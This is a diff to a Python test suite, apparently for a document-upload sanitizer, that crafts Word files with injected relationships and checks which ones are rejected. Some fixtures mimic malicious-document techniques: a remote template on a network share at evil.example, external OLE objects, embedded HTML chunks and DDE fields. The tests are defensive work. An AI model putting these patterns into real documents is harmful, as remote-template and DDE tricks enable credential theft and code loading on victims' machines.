@@ -31,6 +31,9 @@ LIST = (CASES / "list.ods").read_bytes()
 TABLE, WORKBOOK = roster_files()
 
 
+EXTERNAL = 'TargetMode="External"'
+
+
 def a_docx() -> bytes:
     made = io.BytesIO()
     docx.Document().save(made)
@@ -61,9 +64,9 @@ def changed(package: bytes, add: Mapping[str, bytes], instead: tuple[str, bytes,
     return made.getvalue()
 
 
-def related(type: str, more: str = 'TargetMode="External"') -> tuple[str, bytes, bytes]:
+def related(type: str, more: str = EXTERNAL, target: str = "http://evil.example/>x") -> tuple[str, bytes, bytes]:
     uri = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-    added = f'<Relationship Id="r99" Type="{uri}/{type}" Target="http://evil.example/>x" {more}/></Relationships>'
+    added = f'<Relationship Id="r99" Type="{uri}/{type}" Target="{target}" {more}/></Relationships>'
     return "word/_rels/document.xml.rels", b"</Relationships>", added.encode()
 
 
@@ -88,6 +91,7 @@ HARMLESS = (
     b"<w:body><w:p><w:r><w:t>Photograph: image (1), DDE de l\xe2\x80\x99Ain</w:t></w:r><w:r><w:instrText>"
     b' HYPERLINK "http://dde.example/link"</w:instrText></w:r></w:p>'
 )
+DRIVE, SHARE = r"file:///C:\Users\a\form.dotx", r"file:///\\evil.example\form.dotx"
 HYPERLINK = changed(DOCX, {}, related("hyperlink"))
 
 
@@ -100,6 +104,7 @@ HYPERLINK = changed(DOCX, {}, related("hyperlink"))
         ("objects.pdf", a_pdf(more=streamed(b"5 0 <</S/URI>>")), "objects.pdf", "application/pdf"),
         ("form.docx", DOCX, "form.docx", WORD),
         ("dde.docx", changed(DOCX, {}, (*FIELD[:2], HARMLESS)), "dde.docx", WORD),
+        ("ours.docx", changed(DOCX, {}, related("attachedTemplate", target=DRIVE)), "ours.docx", WORD),
         ("link.docx", HYPERLINK, "link.docx", WORD),
         ("list.xlsx", WORKBOOK, "list.xlsx", SHEET),
         ("list.ods", LIST, "list.ods", ODS),
@@ -259,6 +264,8 @@ WITHHELD = {
     "HTML within": ("form.docx", changed(DOCX, {"word/afchunk.html": b"<p>"})),
     "HTML within, as XML": ("form.docx", changed(DOCX, {"word/x.xml": b"<p/>"}, related("aFChunk", ""))),
     "a template elsewhere": ("form.docx", changed(DOCX, {}, related("attachedTemplate"))),
+    "a template on a share": ("form.docx", changed(DOCX, {}, related("attachedTemplate", target=SHARE))),
+    "an object on a drive": ("form.docx", changed(DOCX, {}, related("oleObject", target=DRIVE))),
     "a picture elsewhere": ("form.docx", changed(DOCX, {}, related("image", "TargetMode = 'External'"))),
     "a DDE field": ("form.docx", changed(DOCX, {}, FIELD)),
     "a DDE field after another": ("form.docx", changed(DOCX, {}, (*FIELD[:2], AFTER))),
